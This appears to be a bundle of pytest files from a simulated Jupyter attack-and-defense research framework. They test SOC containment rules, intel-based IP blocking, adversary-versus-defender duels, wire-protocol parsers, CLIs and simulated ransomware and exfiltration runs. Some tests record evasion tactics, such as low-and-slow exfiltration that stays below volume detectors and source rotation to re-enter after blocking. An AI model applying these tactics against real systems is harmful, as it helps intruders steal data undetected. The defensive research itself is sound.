        now = s.clock.now()
        s.fleet.feed.publish(Indicator(
            indicator_id="ind-src-198.18.0.10", indicator_type="source-ip",
            pattern="198.18.0.10", description="short-lived sighting",
            confidence=0.95, source="honeypot:test", created=now,
            valid_until=now + 10.0))
        assert "198.18.0.10" in s.proxy.blocked_sources
        s.run(15.0)
        assert "198.18.0.10" not in s.proxy.blocked_sources

    def test_tightened_policy_disables_expiry(self):
        base = ResponsePolicy(block_ttl=90.0, intel_ttl=120.0,
                              quarantine_release_after=60.0)
        hard = tightened(base, cooldown=10.0)
        assert hard.block_ttl == 0.0 and hard.intel_ttl == 0.0
        assert hard.quarantine_release_after == 0.0
        assert all(r.cooldown <= 10.0 for r in hard.rules)

    def test_expired_intel_block_clears_even_if_already_unblocked(self):
        # An ip blocked by an incident AND by intel, with the incident
        # block's TTL expiring first: when the intel expiry later finds
        # the source already unblocked, the bookkeeping must still
        # clear — no per-poll retry spam, and a later burn (fresh
        # indicator) must be auto-blockable again.
        spec = defend(spec_preset("honeypot-hub", n_tenants=2),
                      ResponsePolicy(block_ttl=20.0, intel_ttl=40.0))
        s = WorldBuilder().build(spec, seed=7)
        ip = "203.0.113.66"
        s.monitor.logs.notices.append(notice(ts=s.clock.now(), src=ip))
        s.soc.poll()                       # incident-driven block
        s.fleet.feed.publish(Indicator(    # intel block: already blocked
            indicator_id="ind-src-test-1", indicator_type="source-ip",
            pattern=ip, description="burn", confidence=0.95,
            source="honeypot:test", created=s.clock.now()))
        s.run(25.0)                        # block_ttl lapses first
        assert ip not in s.proxy.blocked_sources
        s.run(30.0)                        # intel_ttl lapses (release fails)
        expiries = [a for a in s.soc.executed if a.rule == "intel-expiry"]
        assert len(expiries) == 1          # attempted once, never retried
        s.run(20.0)
        assert len([a for a in s.soc.executed
                    if a.rule == "intel-expiry"]) == 1
        # A fresh indicator for the same source auto-blocks again.
        s.fleet.feed.publish(Indicator(
            indicator_id="ind-src-test-2", indicator_type="source-ip",
            pattern=ip, description="re-burn", confidence=0.95,
            source="honeypot:test", created=s.clock.now()))
        assert ip in s.proxy.blocked_sources

    def test_observable_action_feed(self):
        s = build_defended(ResponsePolicy())
        seen = []
        s.soc.subscribe(seen.append)
        s.monitor.logs.notices.append(notice(ts=s.clock.now()))
        s.soc.poll()
        assert seen and any(a.action == "block_source" for a in seen)
        # Replay delivers the backlog to late subscribers.
        late = []
        s.soc.subscribe(late.append, replay=True)
        assert [a.ts for a in late] == [a.ts for a in s.soc.executed]


class TestArmsRace:
    def test_reentry_after_rotation_counters_agree(self):
        runner = ArmsRaceRunner("adaptive-hub", seed=7001,
                                strategy="source-rotation", n_tenants=5)
        report = runner.run()
        (agent,) = report.agents
        # The adversary got back in...
        assert report.attacker_reentered
        assert agent.rotations >= 1 and len(agent.re_entries) >= 1
        # ...the defender re-contained it...
        assert report.defender_recontained
        # ...and both sides' books agree: every source the agent burned
        # was blocked by an executed containment action, and every
        # eviction pairs with a containment the SOC actually made.
        soc = runner.scenario.soc
        blocked = {a.target for a in soc.containment_actions()
                   if a.action == "block_source"}
        assert set(agent.burned_source_ips) <= blocked
        assert len(agent.evictions) <= len(soc.containment_actions())
        assert len(agent.evictions) == len(agent.re_entries) + (
            0 if agent.finish_reason == "objective-complete" else 1)

    def test_static_agent_never_reenters(self):
        runner = ArmsRaceRunner("adaptive-hub", seed=7001,
                                strategy="static", n_tenants=4)
        report = runner.run()
        (agent,) = report.agents
        assert agent.re_entries == [] and agent.rotations == 0
        assert report.post_detection_successes == 0

    def test_low_and_slow_exfiltrates_below_the_floor(self):
        runner = ArmsRaceRunner("adaptive-hub", seed=7001,
                                strategy="low-and-slow", n_tenants=4)
        report = runner.run()
        assert report.bytes_exfiltrated > 0
        # The drip never trips a network volume detector, so the SOC
        # never contains anything.
        assert report.first_contained_at is None
        assert not {"EXFIL_VOLUME", "EXFIL_CUSUM_DRIFT"} & set(report.notices)
        assert report.evictions == []

    def test_duel_determinism_same_seed(self):
        def run():
            return ArmsRaceRunner("adaptive-hub", seed=7013,
                                  strategy="source-rotation",
                                  n_tenants=4).run().to_json()

        assert run() == run()

    def test_tenant_hop_recovers_from_quarantine(self):
        # Force the quarantine path: quarantine the default tenant
        # mid-duel and check the agent hops to its second account.
        spec = spec_preset("adaptive-hub", n_tenants=4,
                           adversary=AdversaryPolicy(strategy="tenant-hop",
                                                     objective="steal"))
        s = WorldBuilder().build(spec, seed=88)
        policy = s.adversary_policy
        agent = AdversaryAgent(s, strategy=make_strategy("tenant-hop", policy),
                               policy=policy, objective="steal")
        s.spawner.quarantine(s.default_tenant)
        agent.check_access()          # observes the quarantine
        assert not agent.has_access
        assert agent.step() is not None  # recovery turn: hop + probe
        assert agent.hops == 1
        assert agent.target_tenant == "user01"
        assert agent.has_access

    def test_more_agents_than_sources_rejected(self):
        runner = ArmsRaceRunner(
            "adaptive-hub", seed=7001, n_tenants=3,
            adversary=AdversaryPolicy(n_agents=4, source_pool_size=2))
        with pytest.raises(ValueError, match="source_pool_size"):
            runner.run()

    def test_versus_explicit_response_beats_existing_policy(self):
        base = spec_preset("defended-sharded-hub", n_tenants=4)
        armed = versus(base, response=tightened())
        assert armed.response.block_ttl == 0.0
        assert all(r.cooldown <= 10.0 for r in armed.response.rules)

    def test_adaptation_metrics_pool_per_agent(self):
        # Agent A: evicted at 10, never back.  Agent B: never evicted,
        # enters at 30.  B's entry must NOT read as A's re-entry.
        runner = ArmsRaceRunner("adaptive-hub", seed=7001,
                                strategy="static", n_tenants=4)
        report = runner.run()

        def stub(entries, evictions, re_entries):
            from dataclasses import replace as _replace

            return _replace(report.agents[0], entries=entries,
                            evictions=evictions, re_entries=re_entries)

        from dataclasses import replace as _replace

        doctored = _replace(report, agents=[
            stub([5.0], [10.0], []), stub([30.0], [], [])])
        metrics = doctored.adaptation_metrics()
        assert metrics["time_to_reentry"] is None
        # A's containment held to the horizon; B contributes no holds.
        assert metrics["containment_half_life"] == \
            pytest.approx(doctored.ended - 10.0)

    def test_matrix_runner_shapes(self):
        cells = StrategyMatrixRunner(
            topologies=("adaptive-hub",), strategies=("static",),
            base_seed=7100, n_tenants=3).run()
        assert len(cells) == 1
        row = cells[0].row()
        assert row["strategy"] == "static" and row["re_entries"] == 0
        assert "cost_per_byte" in row
        assert StrategyMatrixRunner.render(cells).splitlines()[0].startswith(
            "topology")


class TestDecoyWary:
    def test_burn_is_blamed_on_last_touched_tenant(self):
        runner = ArmsRaceRunner("adaptive-honeypot-hub", seed=7001,
                                strategy="decoy-wary", n_tenants=3)
        report = runner.run()
        (agent,) = report.agents
        # The decoy names enumerate first, so the first burn blames one
        # of them — and it is never touched again.
        assert set(agent.suspected_decoys) <= {"admin", "svc-backup"}
        assert agent.suspected_decoys, "no decoy was ever suspected"
        scenario = runner.scenario
        for decoy in agent.suspected_decoys:
            touches = [r for r in scenario.decoy_interactions()
                       if r.honeypot == f"decoy-{decoy}"]
            last_burn = max(t for t in agent.evictions)
            # No interaction with a suspected decoy after the last burn
            # it was blamed for.
            assert all(r.ts <= last_burn + 1.0 for r in touches)


class TestAdaptationMetrics:
    def test_time_to_reentry(self):
        assert time_to_reentry([], []) is None
        assert time_to_reentry([10.0], [5.0]) is None
        assert time_to_reentry([10.0, 30.0], [15.0, 40.0]) == 7.5

    def test_containment_half_life_censors_at_horizon(self):
        assert containment_half_life([], [], 100.0) is None
        # One recovered (5s), one held to the horizon (70s).
        assert containment_half_life([10.0, 30.0], [15.0], 100.0) == 37.5

    def test_cost_per_byte(self):
        assert cost_per_exfiltrated_byte(100.0, 0) is None
        assert cost_per_exfiltrated_byte(100.0, 1000) == 0.1

    def test_coverage_decay(self):
        spans = [(10.0, 50.0), (20.0, None), (30.0, 90.0)]
        cov = defense_coverage_decay(spans, 100.0)
        assert cov["peak"] == 3 and cov["final"] == 1
        assert cov["decay"] == pytest.approx(2 / 3, abs=1e-3)
        assert defense_coverage_decay([], 100.0)["decay"] == 0.0


class TestAdversaryCli:
    def test_list_strategies(self, capsys):
        from repro.cli import adversary as cli_adversary

        assert cli_adversary.main(["--list"]) == 0
        out = capsys.readouterr().out
        for name in list_strategies():
            assert name in out

    def test_duel_gate_passes_for_rotation(self, capsys):
        from repro.cli import adversary as cli_adversary

        rc = cli_adversary.main(["--duel", "--strategy", "source-rotation",
                                 "--topology", "adaptive-hub",
                                 "--tenants", "5", "--json"])
        assert rc == 0
        import json as _json

        payload = _json.loads(capsys.readouterr().out)
        assert payload["re_entries"] and payload["re_containments"]

    def test_duel_rejects_unknown_topology(self):
        from repro.cli import adversary as cli_adversary

        with pytest.raises(SystemExit):
            cli_adversary.main(["--duel", "--topology", "atlantis"])

    def test_umbrella_knows_adversary(self, capsys):
        from repro.cli import main as cli_main

        assert cli_main.main(["adversary", "--list"]) == 0
        assert "source-rotation" in capsys.readouterr().out
