"""Tests for the lazy span-based Jupyter message view."""

import json

import pytest

from repro.messaging import Session
from repro.wire.jupyter import SPAN_SCAN_THRESHOLD, LazyJupyterMessage, scan_spans


def _payload(code="print(1)"):
    return Session(b"k").execute_request(code).to_websocket_json().encode()


class TestScanSpans:
    def test_spans_match_json_loads(self):
        raw = _payload()
        spans = scan_spans(raw)
        doc = json.loads(raw)
        assert spans is not None
        assert set(spans) == set(doc)
        for key, (a, b) in spans.items():
            assert json.loads(raw[a:b]) == doc[key]

    def test_scalar_values(self):
        raw = b'{"a": 1, "b": "two", "c": true, "d": null, "e": -2.5e3}'
        spans = scan_spans(raw)
        doc = json.loads(raw)
        for key, (a, b) in spans.items():
            assert json.loads(raw[a:b]) == doc[key]

    def test_nested_containers(self):
        raw = b'{"a": {"x": [1, {"y": "}"}]}, "b": ["[", {"c": "]"}]}'
        spans = scan_spans(raw)
        doc = json.loads(raw)
        for key, (a, b) in spans.items():
            assert json.loads(raw[a:b]) == doc[key]

    def test_escaped_strings(self):
        raw = json.dumps({"code": 'print("\\"}{[")', "k\\n": 1}).encode()
        spans = scan_spans(raw)
        doc = json.loads(raw)
        assert spans is not None and set(spans) == set(doc)

    def test_empty_object(self):
        assert scan_spans(b"{}") == {}
        assert scan_spans(b"  { } ") == {}

    @pytest.mark.parametrize("bad", [
        b"", b"[1,2]", b'"str"', b"42", b"{", b'{"a"}', b'{"a":}', b'{"a":1,}',
        b'{"a":1}trailing', b'{"a" 1}', b'{"unterminated: 1}', b'{"a":1 "b":2}',
        b"not json at all",
    ])
    def test_malformed_returns_none(self, bad):
        assert scan_spans(bad) is None

    def test_big_payload_scans(self):
        raw = _payload("x" * (2 * SPAN_SCAN_THRESHOLD))
        spans = scan_spans(raw)
        doc = json.loads(raw)
        for key, (a, b) in spans.items():
            assert json.loads(raw[a:b]) == doc[key]


class TestLazyJupyterMessage:
    def test_span_backend_for_small_canonical_payloads(self):
        # Canonical sender shape: the streaming scanner wins at any size,
        # so even small payloads take the span backend (no content dict
        # is materialized until a detector actually reads it).
        msg = LazyJupyterMessage.parse(_payload())
        assert msg is not None
        assert msg._spans is not None
        assert msg.header["msg_type"] == "execute_request"
        assert msg.channel == "shell"
        assert msg.content["code"] == "print(1)"

    def test_eager_backend_for_small_noncanonical_payloads(self):
        # Non-canonical key order: below the threshold the classic eager
        # C parse is still the cheapest complete validation.
        raw = _payload()
        doc = json.loads(raw)
        reordered = json.dumps({k: doc[k] for k in reversed(sorted(doc))})
        msg = LazyJupyterMessage.parse(reordered.encode())
        assert msg is not None
        assert msg._doc is not None
        assert msg.header["msg_type"] == "execute_request"
        assert msg.content["code"] == "print(1)"

    def test_span_backend_for_large_payloads(self):
        raw = _payload("y = 1  # " + "pad " * SPAN_SCAN_THRESHOLD)
        msg = LazyJupyterMessage.parse(raw)
        assert msg is not None
        assert msg._spans is not None  # lazy span backend above the threshold
        assert msg.header["msg_type"] == "execute_request"
        # content decodes only on first touch, then caches
        assert "_cache" not in dir(msg) or "content" not in msg._cache
        assert msg.content["code"].startswith("y = 1")
        assert "content" in msg._cache

    def test_content_size_matches_span(self):
        raw = _payload("z" * (SPAN_SCAN_THRESHOLD + 100))
        msg = LazyJupyterMessage.parse(raw)
        a, b = msg._spans["content"]
        assert msg.content_size() == b - a
        # span length tracks the serialized content closely
        assert abs(msg.content_size() - len(json.dumps(json.loads(raw)["content"]))) < 64

    def test_content_contains_prefilter(self):
        raw = _payload("q" * (SPAN_SCAN_THRESHOLD + 1))
        msg = LazyJupyterMessage.parse(raw)
        assert msg.content_contains(b'"code"')
        assert not msg.content_contains(b"no-such-token-anywhere")
        # a miss must not have triggered the content decode
        assert "content" not in msg._cache

    def test_non_object_payloads_rejected(self):
        assert LazyJupyterMessage.parse(b"[1, 2]") is None
        assert LazyJupyterMessage.parse(b"not json") is None
        assert LazyJupyterMessage.parse(b"\xff\xfe\x00garbage") is None

    def test_missing_keys_default(self):
        msg = LazyJupyterMessage.parse(b'{"header": {"msg_type": "x"}}')
        assert msg.channel == ""
        assert msg.content is None
        assert msg.content_size() == 0
        assert not msg.content_contains(b"anything")

    def test_header_not_a_dict(self):
        msg = LazyJupyterMessage.parse(b'{"header": 5}')
        assert msg is not None
        assert msg.header == 5  # caller decides it is not Jupyter traffic

    def test_memoryview_input(self):
        msg = LazyJupyterMessage.parse(memoryview(_payload()))
        assert msg.header["msg_type"] == "execute_request"