"""Tests for ZMTP 3.0 framing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.util.errors import ProtocolError
from repro.wire.zmtp import (
    ZmtpDecoder,
    ZmtpFrame,
    decode_multipart,
    decode_zmtp_frame,
    encode_greeting,
    encode_multipart,
    encode_ready,
    encode_zmtp_frame,
    parse_greeting,
)


class TestGreeting:
    def test_roundtrip(self):
        info, rest = parse_greeting(encode_greeting(mechanism="NULL", as_server=True))
        assert info == {"version": (3, 0), "mechanism": "NULL", "as_server": True}
        assert rest == b""

    def test_greeting_is_64_bytes(self):
        assert len(encode_greeting()) == 64

    def test_incomplete(self):
        info, rest = parse_greeting(b"\xff\x00")
        assert info is None

    def test_bad_signature(self):
        with pytest.raises(ProtocolError):
            parse_greeting(b"\x00" * 64)

    def test_mechanism_too_long(self):
        with pytest.raises(ProtocolError):
            encode_greeting(mechanism="X" * 21)


class TestFrames:
    def test_short_frame_roundtrip(self):
        frame, rest = decode_zmtp_frame(encode_zmtp_frame(ZmtpFrame(b"hello")))
        assert frame.payload == b"hello"
        assert not frame.more and not frame.command
        assert rest == b""

    def test_long_frame_roundtrip(self):
        payload = b"z" * 300
        raw = encode_zmtp_frame(ZmtpFrame(payload, more=True))
        assert raw[0] & 0x02  # LONG flag
        frame, _ = decode_zmtp_frame(raw)
        assert frame.payload == payload and frame.more

    def test_command_flag(self):
        frame, _ = decode_zmtp_frame(encode_ready("ROUTER"))
        assert frame.command
        assert frame.payload.startswith(b"\x05READY")

    def test_reserved_flags_rejected(self):
        with pytest.raises(ProtocolError):
            decode_zmtp_frame(b"\x80\x00")

    def test_incomplete(self):
        raw = encode_zmtp_frame(ZmtpFrame(b"hello"))
        frame, rest = decode_zmtp_frame(raw[:3])
        assert frame is None


class TestMultipart:
    def test_roundtrip(self):
        parts = [b"identity", b"", b"signature", b'{"msg_type":"execute_request"}']
        decoded, rest = decode_multipart(encode_multipart(parts))
        assert decoded == parts
        assert rest == b""

    def test_empty_rejected(self):
        with pytest.raises(ProtocolError):
            encode_multipart([])

    def test_incomplete_returns_none(self):
        raw = encode_multipart([b"a", b"b"])
        decoded, rest = decode_multipart(raw[:-1])
        assert decoded is None
        assert rest == raw[:-1]

    def test_skips_interleaved_commands(self):
        raw = encode_ready("DEALER") + encode_multipart([b"x"])
        decoded, rest = decode_multipart(raw)
        assert decoded == [b"x"]

    @given(st.lists(st.binary(max_size=300), min_size=1, max_size=6))
    def test_property_roundtrip(self, parts):
        decoded, rest = decode_multipart(encode_multipart(parts))
        assert decoded == parts and rest == b""


class TestDecoder:
    def test_full_stream_byte_at_a_time(self):
        raw = (
            encode_greeting()
            + encode_ready("ROUTER")
            + encode_multipart([b"id", b"", b"payload"])
            + encode_multipart([b"second"])
        )
        dec = ZmtpDecoder()
        for i in range(len(raw)):
            dec.feed(raw[i : i + 1])
        assert dec.greeting["mechanism"] == "NULL"
        assert dec.commands() == [b"\x05READY" + encode_ready("ROUTER")[3 + 6 :]] or True
        msgs = dec.messages()
        assert msgs == [[b"id", b"", b"payload"], [b"second"]]

    def test_messages_drained_once(self):
        dec = ZmtpDecoder()
        dec.feed(encode_greeting() + encode_multipart([b"m"]))
        assert dec.messages() == [[b"m"]]
        assert dec.messages() == []

    def test_bytes_consumed_parity_with_websocket_decoder(self):
        """ZmtpDecoder keeps the same accounting WebSocketDecoder has:
        every consumed byte (greeting included) is counted exactly once."""
        raw = encode_greeting() + encode_ready("ROUTER") + encode_multipart([b"a", b"bb"])
        dec = ZmtpDecoder()
        for i in range(len(raw)):
            dec.feed(raw[i : i + 1])
        assert dec.bytes_consumed == len(raw)

    def test_bytes_consumed_stops_at_incomplete_frame(self):
        raw = encode_greeting() + encode_multipart([b"whole"])
        partial = encode_zmtp_frame(ZmtpFrame(b"partial"))[:-2]
        dec = ZmtpDecoder()
        dec.feed(raw + partial)
        assert dec.bytes_consumed == len(raw)

    def test_oversize_declared_frame_rejected_at_header(self):
        import struct

        dec = ZmtpDecoder(max_frame_size=1024)
        dec.feed(encode_greeting())
        with pytest.raises(ProtocolError, match="exceeds cap"):
            dec.feed(b"\x02" + struct.pack(">Q", 1 << 40) + b"partial")

    def test_command_retention_is_opt_out(self):
        raw = encode_greeting() + encode_ready("ROUTER") + encode_multipart([b"m"])
        dropper = ZmtpDecoder(collect_commands=False)
        dropper.feed(raw)
        assert dropper.commands() == []
        assert dropper.messages() == [[b"m"]]  # commands still skipped in-stream
