"""Tests for the command-line tools (invoked in-process)."""

import json

import pytest

from repro.cli import attack as cli_attack
from repro.cli import dataset as cli_dataset
from repro.cli import monitor as cli_monitor
from repro.cli import scan as cli_scan
from repro.cli import taxonomy as cli_taxonomy


class TestScanCli:
    def test_insecure_profile_fails_with_findings(self, capsys):
        rc = cli_scan.main(["--profile", "insecure-demo"])
        out = capsys.readouterr().out
        assert rc == 1
        assert "grade F" in out
        assert "JPT-001" in out

    def test_hardened_profile_passes(self, capsys):
        rc = cli_scan.main(["--profile", "hardened"])
        assert rc == 0
        assert "grade" in capsys.readouterr().out

    def test_json_output_parses(self, capsys):
        cli_scan.main(["--profile", "insecure-demo", "--json"])
        payload = json.loads(capsys.readouterr().out)
        assert payload["grade"] == "F"
        assert any(f["id"] == "JPT-001" for f in payload["failures"])

    def test_config_file(self, tmp_path, capsys):
        cfg = tmp_path / "cfg.json"
        cfg.write_text(json.dumps({"ip": "0.0.0.0", "token": ""}))
        rc = cli_scan.main(["--config", str(cfg)])
        assert rc == 1

    def test_unknown_config_field_rejected(self, tmp_path):
        cfg = tmp_path / "cfg.json"
        cfg.write_text(json.dumps({"bogus_field": 1}))
        with pytest.raises(SystemExit):
            cli_scan.main(["--config", str(cfg)])


class TestTaxonomyCli:
    def test_all_artifacts(self, capsys):
        rc = cli_taxonomy.main(["all"])
        out = capsys.readouterr().out
        assert rc == 0
        assert "Figure 1" in out and "Figure 3" in out and "Table 1" in out
        assert "ransomware" in out

    def test_single_artifact(self, capsys):
        cli_taxonomy.main(["table1"])
        out = capsys.readouterr().out
        assert "Table 1" in out and "Figure 1" not in out

    def test_observables_flag(self, capsys):
        cli_taxonomy.main(["fig1", "--observables"])
        assert "observable:" in capsys.readouterr().out


class TestAttackCli:
    def test_text_output(self, capsys):
        rc = cli_attack.main(["stolen-token", "--seed", "5"])
        out = capsys.readouterr().out
        assert rc == 0
        assert "attack    : stolen-token" in out
        assert "success   : True" in out

    def test_json_output(self, capsys):
        cli_attack.main(["exfiltration", "--json", "--seed", "5"])
        payload = json.loads(capsys.readouterr().out)
        assert payload["attack"] == "data-exfiltration"
        assert payload["success"] is True
        assert "EXFIL_VOLUME" in payload["defender"]["network_notices"]

    def test_insecure_server_flag(self, capsys):
        cli_attack.main(["open-server-exploit", "--insecure-server", "--json"])
        payload = json.loads(capsys.readouterr().out)
        assert payload["success"] is True
        assert payload["metrics"]["code_execution"] is True


class TestDatasetCli:
    def test_stdout_jsonl(self, capsys):
        rc = cli_dataset.main(["--attacks", "none", "--benign-sessions", "1", "--anonymize", "none"])
        out = capsys.readouterr().out
        assert rc == 0
        lines = [l for l in out.splitlines() if l.strip()]
        assert all(json.loads(l) for l in lines)

    def test_file_output_with_stats(self, tmp_path, capsys):
        out_path = tmp_path / "corpus.jsonl"
        rc = cli_dataset.main(["--out", str(out_path), "--attacks", "none",
                               "--benign-sessions", "1", "--stats"])
        assert rc == 0
        assert out_path.exists()
        stats = json.loads(capsys.readouterr().err)
        assert stats["records"] > 0
        assert "k_anonymity" in stats


class TestMonitorCli:
    def test_benign_run(self, capsys):
        rc = cli_monitor.main(["--depth", "jupyter"])
        out = capsys.readouterr().out
        assert rc == 0
        assert "analyzer depth: JUPYTER" in out

    def test_with_attacks_shows_notices(self, capsys):
        cli_monitor.main(["--with-attacks"])
        out = capsys.readouterr().out
        assert "AUTH_BRUTEFORCE" in out or "EXFIL_VOLUME" in out

    def test_json_mode(self, capsys):
        cli_monitor.main(["--json", "--depth", "http"])
        payload = json.loads(capsys.readouterr().out)
        assert payload["depth"] == "HTTP"


class TestSocCli:
    def test_rules_listing(self, capsys):
        from repro.cli import soc as cli_soc

        assert cli_soc.main(["--rules"]) == 0
        out = capsys.readouterr().out
        assert "block-hostile-source" in out
        assert "contain-compromised-session" in out

    def test_rules_json(self, capsys):
        from repro.cli import soc as cli_soc

        assert cli_soc.main(["--rules", "--json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert {r["name"] for r in payload} >= {"block-hostile-source"}
        assert all("actions" in r and "cooldown" in r for r in payload)

    def test_replay_defended_exits_zero_with_actions(self, capsys):
        from repro.cli import soc as cli_soc

        rc = cli_soc.main(["--replay", "--campaign", "exfil",
                           "--topology", "defended-hub", "--json"])
        out = capsys.readouterr().out
        assert rc == 0
        payload = json.loads(out)
        assert payload["contained_at"] is not None
        assert payload["post_detection_success"] is False
        assert payload["actions"]

    def test_replay_undefended_reports_no_actions(self, capsys):
        from repro.cli import soc as cli_soc

        rc = cli_soc.main(["--replay", "--campaign", "exfil",
                           "--topology", "hub", "--json"])
        payload = json.loads(capsys.readouterr().out)
        assert rc == 0  # only *defended* replays gate on containment
        assert payload["actions"] == []

    def test_replay_rejects_unknown_topology(self):
        from repro.cli import soc as cli_soc

        with pytest.raises(SystemExit):
            cli_soc.main(["--replay", "--topology", "atlantis"])

    def test_umbrella_knows_soc(self, capsys):
        from repro.cli import main as cli_main

        assert cli_main.main(["soc", "--rules"]) == 0
        assert "block-hostile-source" in capsys.readouterr().out


class TestObsCli:
    ARGS = ["--topology", "defended-hub", "--campaign", "exfil",
            "--tenants", "2", "--seed", "7"]

    def test_smoke_exits_zero(self, capsys):
        from repro.cli import obs as cli_obs

        assert cli_obs.main(["--smoke", *self.ARGS]) == 0
        out = capsys.readouterr().out
        assert "obs smoke: OK" in out
        summary = json.loads(out[:out.rindex("}") + 1])
        assert summary["enabled"] and summary["exporter_problems"] == 0

    def test_incident_chain_is_complete(self, capsys):
        # The pivot campaign's sweep arrives through the front door, so
        # the default (defended-sharded-hub) incident carries all four
        # causal stages — the acceptance gate for trace propagation.
        from repro.cli import obs as cli_obs

        assert cli_obs.main(["--incident"]) == 0
        out = capsys.readouterr().out
        assert "stages: request -> detector -> incident -> action" in out

    def test_incident_unknown_id_fails(self, capsys):
        from repro.cli import obs as cli_obs

        assert cli_obs.main(["--incident", "INC-9999", *self.ARGS]) == 1
        assert "no incident" in capsys.readouterr().err

    def test_export_prometheus_validates(self, capsys):
        from repro.cli import obs as cli_obs
        from repro.telemetry.exporters import validate_prometheus

        assert cli_obs.main(["--export", "prometheus", *self.ARGS]) == 0
        text = capsys.readouterr().out
        assert validate_prometheus(text) == []
        assert "proxy_requests_total" in text

    def test_export_timeline_jsonl(self, capsys):
        from repro.cli import obs as cli_obs

        assert cli_obs.main(["--export", "timeline-jsonl", *self.ARGS]) == 0
        lines = capsys.readouterr().out.strip().splitlines()
        assert lines and all("kind" in json.loads(ln) for ln in lines)

    def test_export_jsonl_round_trips_through_validators(self, capsys):
        from repro.cli import obs as cli_obs
        from repro.telemetry.exporters import (
            SCHEMA_VERSION,
            TIMELINE_REQUIRED_KEYS,
            validate_jsonl,
        )

        assert cli_obs.main(["--export", "metrics-jsonl", *self.ARGS]) == 0
        metrics = capsys.readouterr().out
        assert validate_jsonl(metrics, required_keys=("name", "value")) == []
        header = json.loads(metrics.splitlines()[0])
        assert header["schema_version"] == SCHEMA_VERSION

        assert cli_obs.main(["--export", "timeline-jsonl", *self.ARGS]) == 0
        timeline = capsys.readouterr().out
        assert validate_jsonl(timeline,
                              required_keys=TIMELINE_REQUIRED_KEYS) == []

    def test_flame_names_the_hot_paths(self, capsys):
        from repro.cli import obs as cli_obs

        assert cli_obs.main(["--flame", "--tenants", "2", "--seed", "7"]) == 0
        out = capsys.readouterr().out
        lines = [ln for ln in out.strip().splitlines() if ";" in ln]
        assert lines, "flamegraph output must be non-empty"
        for needle in ("scan_jupyter", "_feed_ws", "probe_ws_canonical"):
            assert needle in out

    def test_slo_burn_smoke(self, capsys):
        from repro.cli import obs as cli_obs

        assert cli_obs.main(["--slo", "--seed", "7"]) == 0
        out = capsys.readouterr().out
        assert "obs slo: OK" in out
        assert "SLO_BURN" in out
        assert "shed-padding-on-burn" in out

    def test_umbrella_knows_obs(self, capsys):
        from repro.cli import main as cli_main

        assert cli_main.main(["obs", "--smoke", *self.ARGS]) == 0
        assert "obs smoke: OK" in capsys.readouterr().out
