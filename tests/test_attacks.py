"""Integration tests: every avenue of attack executed end-to-end, with the
monitor and auditor watching.  This is the taxonomy made executable."""

import pytest

from repro.attacks import (
    CryptominingAttack,
    CredentialStuffingAttack,
    ExfiltrationAttack,
    LowAndSlowExfiltration,
    MonitorFloodAttack,
    OpenServerExploitAttack,
    OpenServerScanAttack,
    OutputSmugglingAttack,
    RansomwareAttack,
    RuleInferenceAttack,
    StolenTokenAttack,
    TokenBruteforceAttack,
    ZeroDayAttack,
)
from repro.attacks.scenario import build_scenario
from repro.crypto.passwords import hash_password
from repro.server.config import ServerConfig, insecure_demo_config
from repro.taxonomy.oscrp import Avenue, Concern


class TestRansomware:
    def test_kernel_variant_encrypts_and_is_detected(self):
        sc = build_scenario(seed=1)
        result = RansomwareAttack(via="kernel").run(sc)
        assert result.success
        assert Concern.INACCESSIBLE_OR_INCORRECT_DATA in result.observed_concerns
        assert result.metrics["files_encrypted"] >= 8
        # Audit plane: mass overwrite policy + entropy cross-feed.
        auditor = next(iter(sc.auditors.values()))
        assert "POLICY_MASS_FILE_OVERWRITE" in auditor.notice_names()
        assert "RANSOMWARE_ENTROPY_BURST" in sc.monitor.logs.notice_names()

    def test_kernel_variant_files_actually_unreadable(self):
        sc = build_scenario(seed=2)
        before = {p: c for p, c in sc.server.fs.snapshot().items() if p.endswith(".csv")}
        RansomwareAttack(via="kernel").run(sc)
        for path, original in before.items():
            assert not sc.server.fs.is_file(path)
            locked = sc.server.fs.read(path + ".locked")
            assert locked != original

    def test_rest_variant_detected_on_the_wire(self):
        sc = build_scenario(seed=3)
        result = RansomwareAttack(via="rest").run(sc)
        assert result.success
        assert "RANSOMWARE_ENTROPY_BURST" in sc.monitor.logs.notice_names()
        assert result.metrics["note_dropped"]

    def test_checkpoints_destroyed_blocks_recovery(self):
        sc = build_scenario(seed=4)
        RansomwareAttack(via="rest", destroy_checkpoints=True).run(sc)
        assert sc.server.contents.list_checkpoints("experiments/run0.ipynb") == []

    def test_checkpoints_preserved_allows_recovery(self):
        sc = build_scenario(seed=5)
        RansomwareAttack(via="rest", destroy_checkpoints=False).run(sc)
        # Victim restores from checkpoint.
        sc.server.contents.restore_checkpoint("experiments/run0.ipynb")
        model = sc.server.contents.get("experiments/run0.ipynb")
        assert model["type"] == "notebook"

    def test_decrypt_helper_roundtrip(self):
        from repro.crypto.chacha20 import chacha20_encrypt

        attack = RansomwareAttack(via="rest")
        blob = chacha20_encrypt(attack.key, attack.nonce, b"plaintext")
        assert attack.decrypt(blob) == b"plaintext"

    def test_invalid_variant_rejected(self):
        with pytest.raises(ValueError):
            RansomwareAttack(via="email")


class TestExfiltration:
    def test_bulk_exfil_succeeds_and_fires_volume_detector(self):
        sc = build_scenario(seed=10)
        result = ExfiltrationAttack().run(sc)
        assert result.success
        assert Concern.EXPOSED_DATA in result.observed_concerns
        assert result.metrics["bytes_exfiltrated"] >= 20_000
        assert "EXFIL_VOLUME" in sc.monitor.logs.notice_names()

    def test_bulk_exfil_flagged_by_audit_shape_policy(self):
        sc = build_scenario(seed=11)
        ExfiltrationAttack().run(sc)
        auditor = next(iter(sc.auditors.values()))
        assert "POLICY_NET_PLUS_FILE_READ" in auditor.notice_names()

    def test_provenance_reconstructs_exfil_lineage(self):
        sc = build_scenario(seed=12)
        ExfiltrationAttack().run(sc)
        auditor = next(iter(sc.auditors.values()))
        lineage = auditor.provenance.exfil_lineage(sc.exfil_sink.host.ip, 443)
        assert any(p.endswith("weights.bin") for p in lineage)

    def test_low_and_slow_evades_threshold_detector(self):
        sc = build_scenario(seed=13)
        result = LowAndSlowExfiltration(bytes_per_burst=600, interval_seconds=20,
                                        total_bytes=12_000).run(sc)
        assert result.success
        assert "EXFIL_VOLUME" not in sc.monitor.logs.notice_names()

    def test_low_and_slow_caught_by_cusum_eventually(self):
        sc = build_scenario(seed=14)
        # Tune CUSUM for the test's short horizon.
        sc.monitor.cusum.baseline = 50.0
        sc.monitor.cusum.slack = 50.0
        sc.monitor.cusum.h = 20_000.0
